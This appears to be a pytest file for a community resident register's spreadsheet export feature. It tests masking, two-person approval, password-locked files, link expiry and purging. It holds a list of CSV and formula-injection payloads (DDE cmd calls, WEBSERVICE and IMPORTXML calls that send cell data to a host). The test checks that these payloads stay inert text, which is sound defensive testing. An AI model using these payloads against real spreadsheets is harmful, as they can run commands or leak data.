"""A file leaves: as filtered, masked, marked, with a second person's word, and is found again when it leaks."""
# ruff: noqa: F811

import io
import json
import re
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from django.db import IntegrityError, transaction
from django.urls import reverse
from msoffcrypto.exceptions import InvalidKeyError
from msoffcrypto.format.ooxml import OOXMLFile
from olefile import OleFileIO
from python_calamine import CalamineWorkbook

from qiaomen.kernel import clock
from qiaomen.kernel.tests.numbers import id_no
from qiaomen.office.models import LedgerEntry, Organisation, Staff
from qiaomen.office.tests.cast import client_of
from qiaomen.register.actions import household_events, person_facts
from qiaomen.register.models import Person
from qiaomen.register.tests.town import bring_in
from qiaomen.sheets import problems
from qiaomen.sheets.actions import export_book, exports
from qiaomen.sheets.models import Export
from qiaomen.sheets.tests.test_grid import head, person, town  # noqa: F401

SOME = [
    [
        n,
        f"王{'一二三四五六七八九十'[n % 10]}{n}",
        "户主",
        id_no(200 + n),
        f"138000{n:05d}",
        f"学府里{n // 20 + 2}-1-{100 + n}",
    ]
    for n in range(1, 61)
]


@pytest.fixture
def big(town: Organisation, worker: Staff) -> Organisation:
    bring_in(town, worker, SOME)
    return town


def asked(staff: Staff, **told_more: Any) -> exports.Asked:
    return exports.read_asked({"view": "residents", **told_more}, staff)


def ask(staff: Staff, town: Organisation, *, reason: str = "", **more: Any) -> Export:
    return exports.ask_export(
        community=town, staff=staff, asked=asked(staff, **more), purpose="报街道，高龄津贴年审", clear_reason=reason
    )


def take(export: Export, staff: Staff) -> bytes:
    """Take a file and open it with the password that was shown."""
    taken = exports.take_export(export=export, staff=staff)
    return opened(exports.hand_over(export=taken.export, staff=staff, link=taken.link), taken.password)


def opened(locked: bytes, password: str) -> bytes:
    book, out = OOXMLFile(io.BytesIO(locked)), io.BytesIO()
    book.load_key(password=password, verify_password=True)
    book.decrypt(out, verify_integrity=True)
    return out.getvalue()


def cells_of(content: bytes) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert len(book.sheet_names) == 1
    return book.get_sheet_by_index(0).to_python()


def test_a_small_file_holds_what_the_filter_shows(town: Organisation, worker: Staff) -> None:
    export = ask(worker, town, filters={"age": "60+"}, columns=["name", "age", "phone", "id_no", "door"])
    assert (export.state, export.rows, str(export)) == ("approved", 3, "R1-0001")
    found = cells_of(take(export, worker))
    assert found[1] == ["姓名", "年龄", "电话", "身份证号", "住址"]
    assert {row[0] for row in found[2:-1]} == {"单志明", "仇小兰", "曾·艾力"} and found[2][1] > 60
    assert {row[2] for row in found[2:-1]} == {"139****1234", "139****5678", ""}
    for line in (found[0][0], found[-1][0]):
        assert all(word in line for word in ("网格员（w-r）", "报街道，高龄津贴年审", "R1-0001", f"{clock.today()}"))
    line = LedgerEntry.objects.get(code="sheets.export-taken")
    assert line.detail["rows"] == 3 and line.fields == ["name", "age", "phone", "id_no", "door"]
    assert line.reason == export.purpose and line.actor == worker


def test_numbers_stand_whole_only_when_chosen_with_a_reason(town: Organisation, worker: Staff, head: Staff) -> None:
    shown = ["name", "phone", "id_no"]
    with pytest.raises(problems.PurposeMissing):
        ask(worker, town, columns=shown, clear=["phone"])
    export = ask(worker, town, columns=shown, clear=["phone", "name", "birth_date"], reason="要逐个打电话")
    found = cells_of(take(export, worker))
    text = json.dumps(found, ensure_ascii=False)
    assert "13900001234" in text and id_no(11) not in text and "单小宝" not in text and "单**" in text
    assert exports.asked_in(export).clear == ("phone",)
    person_facts.note_facts(person=person("解万里"), facts={"is_orphan": False}, on_date=clock.today(), actor=head)
    for staff, says in ((worker, False), (head, True)):
        columns = {
            column.code for column in exports.sealed_columns(asked(staff, columns=["told:is_orphan"]).question, staff)
        }
        assert ("told:is_orphan" in columns) is says


def test_above_fifty_another_person_lets_it_go(big: Organisation, worker: Staff, head: Staff) -> None:
    export = ask(worker, big)
    assert (export.state, export.rows) == ("asked", 65)
    for early in (worker, head):
        with pytest.raises(problems.NotToTake):
            exports.take_export(export=export, staff=early)
    with pytest.raises(problems.OwnRequest):
        exports.decide_export(export=export, staff=worker, approve=True)
    with pytest.raises(IntegrityError), transaction.atomic():
        Export.objects.filter(pk=export.pk).update(decided_by=worker)
    assert exports.waiting_for(big, worker) == [] and exports.waiting_for(big, head) == [export]
    exports.decide_export(export=export, staff=head, approve=True)
    with pytest.raises(problems.AlreadyDecided):
        exports.decide_export(export=export, staff=head, approve=False)
    with pytest.raises(problems.NotToTake):
        exports.take_export(export=export, staff=head)
    assert len(cells_of(take(export, worker))) == 65 + 3
    with clock.at(clock.now() + timedelta(hours=25)), pytest.raises(problems.NotToTake):
        exports.take_export(export=export, staff=worker)
    codes = list(
        LedgerEntry.objects.filter(code__startswith="sheets.export").order_by("seq").values_list("code", flat=True)
    )
    assert codes == ["sheets.export-asked", "sheets.export-approved", "sheets.export-taken"]


def test_many_small_files_are_one_large_one(big: Organisation, worker: Staff, head: Staff) -> None:
    assert ask(worker, big, filters={"door": "学府里 2-1"}).state == "approved"
    again = ask(worker, big, filters={"door": "学府里 3-1"}).rows + 19
    assert again <= 50 and ask(worker, big, filters={"door": "学府里"}).state == "asked"
    assert ask(worker, big, filters={"door": "学府里 4-1"}).state == "asked"
    assert ask(head, big, filters={"door": "学府里 4-1"}).state == "approved"
    with clock.at(clock.now() + timedelta(hours=25)):
        assert ask(worker, big, filters={"door": "学府里 4-1"}).state == "approved"


def test_what_is_approved_is_people_not_a_filter(big: Organisation, worker: Staff, head: Staff) -> None:
    """Whoever comes in afterwards is not in the file; whose row has changed is not either, and is named to both."""
    export = ask(worker, big)
    bring_in(big, worker, [[1, "后来者", "户主", id_no(900), "13811110000", "学府里9-1-901"]])
    household_events.correct_person(person=person("解万里"), actor=head, reason="本人说", phone="13511112222")
    household_events.record_death(
        household=person("曾·艾力").household, person=person("曾·艾力"), on_date=clock.today(), actor=head
    )
    seen = client_of(head).get(reverse("sheets:exports")).content.decode()
    assert "曾·艾力、解万里（2 行）" in seen and "后来者" not in seen
    exports.decide_export(export=export, staff=head, approve=True)
    assert "曾·艾力、解万里（2 行）" in client_of(worker).get(reverse("sheets:exports")).content.decode()
    taken = exports.take_export(export=export, staff=worker)
    assert taken.dropped == ["曾·艾力", "解万里"]
    content = opened(exports.hand_over(export=taken.export, staff=worker, link=taken.link), taken.password)
    names = {row[0] for row in cells_of(content)[2:-1]}
    assert len(names) == 63 and not names & {"后来者", "解万里", "曾·艾力"}


def test_nobody_is_chosen_by_a_number(town: Organisation, worker: Staff) -> None:
    assert asked(worker, filters={"phone": "13900001234", "id_no": id_no(11), "sex": "男"}).question.filters == {
        "sex": "男"
    }


def test_nothing_and_too_much_make_no_file(town: Organisation, worker: Staff, monkeypatch: Any) -> None:
    with pytest.raises(problems.NothingToExport):
        ask(worker, town, text="没有这个人")
    monkeypatch.setattr(exports, "MOST_ROWS", 4)
    with pytest.raises(problems.ExportTooLarge):
        ask(worker, town)
    assert not Export.objects.exists()


# ---- the file itself ----

PAYLOADS = [
    f"{start}{body}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "=-", " =", "|")
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x","点我")',
        "SUM(A1:A9)",
        'DDE("cmd";"/C calc";"x")',
        'WEBSERVICE("http://x")',
        'IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
        "1;=1",
        '"&A1&"',
        "{=1}",
        "A1",
        "@SUM(1)",
        "'=1",
        "0x1",
        "1e9",
        "http://x",
        "mailto:x@x",
        "file:///c:/x",
        "internal:'Sheet'!A1",
        "TRUE",
    )
]


def test_no_payload_lives() -> None:
    """F5: 200 texts that a spreadsheet could run stand as text, and nothing else is in the file."""
    assert len(PAYLOADS) == 200
    rows = [[text, "1"] for text in PAYLOADS]
    content = export_book.write_book(export_book.Sheet("=1+1", "=2+2 & 水印", ["=3", "@4"], rows, [96, 96]))
    assert_plain(content)
    kept = [row[0] for row in cells_of(content)[2:-1]]
    assert kept == PAYLOADS


def assert_plain(content: bytes) -> None:
    """F6: one visible sheet; no formula, link, name, comment, hidden part, macro, outside address or author."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        parts = {name: file.read(name).decode() for name in file.namelist()}
    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/app.xml",
        "docProps/core.xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet1.xml",
        "xl/styles.xml",
        "xl/theme/theme1.xml",
        "xl/sharedStrings.xml",
    }
    sheet, book = parts["xl/worksheets/sheet1.xml"], parts["xl/workbook.xml"]
    assert not re.search(r"<f[ >/]|hyperlink|hidden|legacyDrawing|dataValidation|oleObject", sheet)
    assert set(re.findall(r' t="(\w+)"', sheet)) <= {"s"} and "inlineStr" not in sheet
    assert book.count("<sheet ") == 1 and not re.search(r"definedName|externalReference|hidden|pivot", book)
    assert (
        "<dc:creator></dc:creator>" in parts["docProps/core.xml"]
        and "lastModifiedBy></cp" in parts["docProps/core.xml"]
    )
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", parts["docProps/core.xml"])) == {"2000-01-01T00:00:00Z"}
    assert "<Company></Company>" in parts["docProps/app.xml"]
    header = re.search(r"<oddHeader>(.*?)</oddHeader>", sheet), re.search(r"<oddFooter>(.*?)</oddFooter>", sheet)
    assert all(found and ("水印" in found[1] or "编号" in found[1]) for found in header)


def test_an_export_is_plain_and_marked(town: Organisation, worker: Staff) -> None:
    household_events.correct_person(person=person("解万里"), actor=worker, reason="试", name='=HYPERLINK("http://x")')
    export = ask(worker, town, columns=["name", "age", "door", "told:public_post"])
    content = take(export, worker)
    assert_plain(content)
    assert '=HYPERLINK("http://x")' in {row[0] for row in cells_of(content)}
    assert "单志明" not in repr(Export.objects.get().marks) and len(Export.objects.get().marks) % 8 == 0


# ---- screens ----


def wish(**more: Any) -> str:
    return json.dumps({"view": "residents", **more})


def test_the_whole_way_on_screen(big: Organisation, worker: Staff, head: Staff) -> None:
    client, other = client_of(worker), client_of(head)
    new, listed = reverse("sheets:export-new"), reverse("sheets:exports")
    page = client.post(new, {"wish": wish(filters={"phone": "13900001234"})}).content.decode()
    assert "65 行" in page and "13900001234" not in page  # nobody is chosen by a number
    page = client.post(new, {"wish": wish()}).content.decode()
    assert "65 行" in page and "要另一位主任或网格员同意" in page
    missing = client.post(new, {"wish": wish(), "ask": "1", "purpose": "电话慰问", "clear": ["phone"]}).content.decode()
    assert "要写明为什么需要" in missing and "电话慰问" in missing and not Export.objects.exists()
    told_form = {"wish": wish(), "ask": "1", "purpose": "电话慰问", "clear": ["phone"], "clear_reason": "要打电话"}
    assert client.post(new, told_form).status_code == 302
    export = Export.objects.get()
    assert "等另一位同事同意" in client.get(listed).content.decode()
    decide = reverse("sheets:export-decide", args=[export.pk])
    assert client.post(decide, {"answer": "approve", "sure": "1"}).status_code == 403
    seen = other.get(listed).content.decode()
    assert all(word in seen for word in ("电话慰问", "65 行", "要打电话", "网格员（w-r）导出", "完整"))
    made = reverse("sheets:export-take", args=[export.pk])
    assert client.post(made).status_code == 409
    assert "文件下载以后收不回来" in other.post(decide, {"answer": "approve"}).content.decode()
    assert other.post(decide, {"answer": "approve", "sure": "1"}).status_code == 302
    assert other.post(made).status_code == 409
    page = client.post(made)
    shown = page.content.decode()
    password, link = (
        re.search(r">([a-z2-9-]{14})<", shown),
        re.search(r'href="(/sheets/exports/[^"]+/file/[^"]+)"', shown),
    )
    assert password and link and "no-store" in page["Cache-Control"]
    assert other.get(link[1]).status_code == 410 and client.get(link[1][:-3] + "x/").status_code == 410
    answer = client.get(link[1])
    assert (
        answer.status_code == 200
        and "no-store" in answer["Cache-Control"]
        and "R1-0001.xlsx" in answer["Content-Disposition"]
    )
    numbers = {p.phone for p in Person.objects.all() if p.phone}
    assert numbers - {p.phone for p in Person.objects.filter(name="单小宝")} <= {
        row[6] for row in cells_of(opened(answer.content, password[1]))
    }
    assert not [
        p.id_no for p in Person.objects.all() if p.id_no in json.dumps(cells_of(opened(answer.content, password[1])))
    ]
    assert "下载过" in client.get(listed).content.decode()


def test_a_file_is_locked_its_password_kept_nowhere_and_its_link_dies(
    town: Organisation, worker: Staff, head: Staff
) -> None:
    export = ask(worker, town)
    taken, again = (exports.take_export(export=export, staff=worker) for _ in range(2))
    assert taken.password != again.password and re.fullmatch(
        r"([abcdefghjkmnpqrstuvwxyz2-9]{4}-){2}\S{4}", taken.password
    )
    row = Export.objects.get(pk=export.pk)
    kept = repr({field.name: getattr(row, field.name) for field in row._meta.fields})
    lines = repr(list(LedgerEntry.objects.values()))
    assert not [one for one in (again.password, again.link) if one in kept or one in lines]
    assert bytes(row.locked).startswith(b"\xd0\xcf\x11\xe0") and b"xl/workbook.xml" not in bytes(row.locked)
    with pytest.raises(InvalidKeyError):
        opened(bytes(row.locked), taken.password)
    assert "单志明" in json.dumps(cells_of(opened(bytes(row.locked), again.password)), ensure_ascii=False)
    for link, staff in ((taken.link, worker), (again.link, head)):
        with pytest.raises(problems.LinkOver):
            exports.hand_over(export=row, staff=staff, link=link)
    with clock.at(clock.now() + timedelta(seconds=61)):
        with pytest.raises(problems.LinkOver):
            exports.hand_over(export=row, staff=worker, link=again.link)
        assert exports.purge() == 1
    row.refresh_from_db()
    assert bytes(row.locked) == b"" and row.asked_for and len(row.marks)


def test_the_lock_is_what_office_programs_write(town: Organisation, worker: Staff) -> None:
    """ECMA-376 agile: the container, its version 4.4, AES-256, SHA-512, 100,000 turns, an HMAC over the whole."""
    taken = exports.take_export(export=ask(worker, town), staff=worker)
    with OleFileIO(io.BytesIO(taken.export.locked)) as container:
        info = container.openstream("EncryptionInfo").read()
        assert container.exists("EncryptedPackage") and container.exists("\x06DataSpaces/DataSpaceMap")
    assert info[:8] == b"\x04\x00\x04\x00\x40\x00\x00\x00"
    for word in (
        'keyBits="256"',
        'hashAlgorithm="SHA512"',
        'cipherAlgorithm="AES"',
        'spinCount="100000"',
        "encryptedHmacValue",
    ):
        assert word in info.decode("utf-8", "ignore")


def test_after_thirty_days_what_was_asked_for_is_gone(big: Organisation, worker: Staff, head: Staff) -> None:
    small, large = ask(worker, big, filters={"name": "单志明"}), ask(worker, big)
    take(small, worker)
    with clock.at(clock.now() + timedelta(days=29)):
        exports.purge()
        assert Export.objects.get(pk=small.pk).asked_for and Export.objects.get(pk=large.pk).state == "asked"
    with clock.at(clock.now() + timedelta(days=31)):
        assert exports.purge() == 2 and exports.purge() == 0
        small.refresh_from_db()
        large.refresh_from_db()
        assert (small.asked_for + small.frozen, large.state, large.decided_by) == ("", "refused", None) and len(
            small.marks
        )
        page = client_of(worker).get(reverse("sheets:exports")).content.decode()
        assert "三十天没有人答复" in page and "1 行" in page and small.purpose in page
        assert str(large) not in client_of(head).get(reverse("sheets:exports")).content.decode()


def test_a_refusal_says_why(big: Organisation, worker: Staff, head: Staff) -> None:
    export = ask(worker, big)
    decide = reverse("sheets:export-decide", args=[export.pk])
    client_of(head).post(decide, {"answer": "refuse", "refusal": "列太多"})
    page = client_of(worker).get(reverse("sheets:exports")).content.decode()
    assert "主任 退回了" in page and "列太多" in page
    assert client_of(head).post(decide, {"answer": "approve", "sure": "1"}).status_code == 409


def test_another_community_cannot(big: Organisation, worker: Staff) -> None:
    other = Organisation.objects.create(kind="community", name="新桥社区", code="R2")
    stranger = Staff.objects.create_user("w-2", None, name="别人", role="head", organisation=other)
    export = ask(worker, big)
    for route in ("export-decide", "export-take"):
        assert (
            client_of(stranger)
            .post(reverse(f"sheets:{route}", args=[export.pk]), {"answer": "approve", "sure": "1"})
            .status_code
            == 404
        )
    assert str(export) not in client_of(stranger).get(reverse("sheets:exports")).content.decode()


# ---- tracing a leak ----
